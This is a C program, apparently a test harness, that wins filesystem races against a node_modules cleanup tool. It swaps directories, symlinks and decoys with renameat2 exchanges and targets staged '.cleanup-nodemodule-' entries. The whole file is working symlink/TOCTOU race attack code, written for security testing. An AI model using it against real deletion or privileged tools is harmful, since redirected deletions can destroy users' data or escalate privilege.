/* Swaps directories for others, and for symlinks, as fast as it can.

   attacker inner DIRECTORY PAIRS COUNTER   in DIRECTORY, each of d0, d1, ... with l0, l1, ...
   attacker outer DIRECTORY COUNTER         in DIRECTORY, project with elsewhere; in project,
                                            node_modules with decoy and with link, and whatever has a
                                            name that is given to what is being deleted with decoy

   It opens the directories as whoever starts it, and then is nobody: it can do what their owner can.
   Each swap is one renameat2(2) that exchanges two names. How many have succeeded is in the file COUNTER,
   a number of 64 bits. It goes on until it is killed, or whoever started it has ended. */

#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#define NOBODY 65534
#define EXCHANGE 2

static volatile uint64_t *count;

static void fail(const char *what)
{
    perror(what);
    exit(1);
}

static int exchange(int directory, const char *one, const char *other)
{
    if (syscall(SYS_renameat2, directory, one, directory, other, EXCHANGE))
        return 0;
    ++*count;
    return 1;
}

static int open_directory(int at, const char *path)
{
    int descriptor = openat(at, path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (descriptor < 0)
        fail(path);
    return descriptor;
}

static void be_nobody(const char *counter)
{
    int file = open(counter, O_RDWR);
    if (file < 0)
        fail(counter);
    count = mmap(NULL, sizeof *count, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    if (count == MAP_FAILED)
        fail("mmap");
    if (setgroups(0, NULL) || setresgid(NOBODY, NOBODY, NOBODY) || setresuid(NOBODY, NOBODY, NOBODY))
        fail("setresuid");
    /* After that, which would undo it (prctl(2)). */
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    if (chdir("/"))
        fail("/");
    puts("ready");
    fflush(stdout);
}

static void attack_inside(int directory, int pairs)
{
    char one[16], other[16];
    for (int i = 0;; i = (i + 1) % pairs) {
        snprintf(one, sizeof one, "d%d", i);
        snprintf(other, sizeof other, "l%d", i);
        exchange(directory, one, other);
    }
}

static void attack_what_is_staged(int project)
{
    DIR *stream = fdopendir(openat(project, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
    if (stream == NULL)
        return;
    for (struct dirent *entry; (entry = readdir(stream)) != NULL;)
        if (strncmp(entry->d_name, ".cleanup-nodemodule-", 20) == 0)
            exchange(project, entry->d_name, "decoy");
    closedir(stream);
}

static void attack_outside(int directory, int project)
{
    static const char *const decoys[] = {"decoy", "link"};
    for (unsigned round = 0;; round++) {
        const char *decoy = decoys[round % 2];
        /* There and back, so that now and then all is as it should be. */
        if (exchange(project, "node_modules", decoy))
            exchange(project, "node_modules", decoy);
        if (exchange(directory, "project", "elsewhere"))
            exchange(directory, "project", "elsewhere");
        if (round % 4 == 0)
            attack_what_is_staged(project);
    }
}

int main(int count_of_arguments, char **arguments)
{
    if (count_of_arguments == 5 && strcmp(arguments[1], "inner") == 0) {
        int directory = open_directory(AT_FDCWD, arguments[2]);
        be_nobody(arguments[4]);
        attack_inside(directory, atoi(arguments[3]));
    }
    if (count_of_arguments == 4 && strcmp(arguments[1], "outer") == 0) {
        int directory = open_directory(AT_FDCWD, arguments[2]);
        int project = open_directory(directory, "project");
        be_nobody(arguments[3]);
        attack_outside(directory, project);
    }
    fputs("attacker: see the head of attacker.c\n", stderr);
    return 2;
}
